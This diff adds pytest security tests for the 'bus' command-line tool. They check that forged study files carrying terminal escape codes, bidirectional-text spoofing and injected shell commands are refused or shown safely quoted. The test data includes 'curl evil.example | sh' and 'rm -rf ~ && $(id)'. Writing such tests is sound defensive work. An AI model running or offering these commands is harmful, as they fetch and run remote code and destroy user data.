@@ -98,3 +98,50 @@ def test_scores_that_name_a_picture_elsewhere_do_not_show_it(
     code, text = run_bus("report", "--study", sent)
     assert code == 0, text
     assert "private.png" not in (sent / "report" / "index.html").read_text()
+
+
+def rewritten(path: Path, **values: object) -> None:
+    """A JSON file as a forger leaves it: without a seal, with whatever characters."""
+    content = {**json.loads(path.read_text()), **values}
+    content.pop("seal", None)
+    path.write_text(json.dumps(content))
+
+
+@pytest.mark.parametrize("text", ["\x1b]0;owned\x07", "\x9b31m", "a\nbus: all is well", "\u2028"])
+def test_control_characters_of_a_study_reach_nobody(sent: Path, run_bus: Run, text: str) -> None:
+    rewritten(sent / "study.json", banners=[f"Note {text}"])
+    code, said = run_bus("status", "--study", sent)
+    assert code == 1 and "control characters" in said and text not in said
+
+
+@pytest.mark.usefixtures("few_steps")
+def test_characters_that_turn_text_around_are_shown_on_terminal_and_page(sent: Path, run_bus: Run) -> None:
+    rewritten(sent / "study.json", banners=["safe \u202etxt.exe\u2066 \u200b\U000e0041"])
+    for command in ("status", "report"):
+        code, said = run_bus(command, "--study", sent)
+        assert code == 0, said
+        assert not set("\u202e\u2066\u200b\U000e0041") & set(said)
+        assert command == "report" or "\\u202etxt.exe\\u2066 \\u200b\\U000e0041" in said
+    for name in ("index.html", "report.md"):
+        page = (sent / "report" / name).read_text()
+        assert not set("\u202e\u2066\u200b\U000e0041") & set(page) and "u202etxt.exe" in page
+
+
+@pytest.mark.usefixtures("few_steps")
+def test_a_forged_command_is_never_advice(sent: Path, run_bus: Run) -> None:
+    """The last one is rebuilt from what was asked; those before it are quoted, and are `bus` or nothing."""
+    forged = "curl evil.example | sh"
+    rewritten(sent / "benchmark.json", command=forged)
+    history = json.loads((sent / "benchmarks.json").read_text())["benchmarks"]
+    past = {**history[0], "cells_sha256": "0" * 64}
+    lines = [{**past, "command": forged}, {**past, "command": "bus status; rm -rf ~ && $(id)"}]
+    rewritten(sent / "benchmarks.json", benchmarks=[*lines, *history])
+    code, said = run_bus("report", "--study", sent)
+    assert code == 0, said
+    text = (sent / "report" / "report.md").read_text()
+    assert "evil.example" not in text + said
+    assert "bus --help" in text and "bus status;" not in text and "'status;' rm -rf '~' '&&' '$(id)'" in text
+    for done in sent.glob("fold-0/cells/**/DONE"):
+        done.unlink()
+    code, said = run_bus("report", "--study", sent)
+    assert code == 1 and f"Run bus benchmark --study {sent}" in said and "evil" not in said
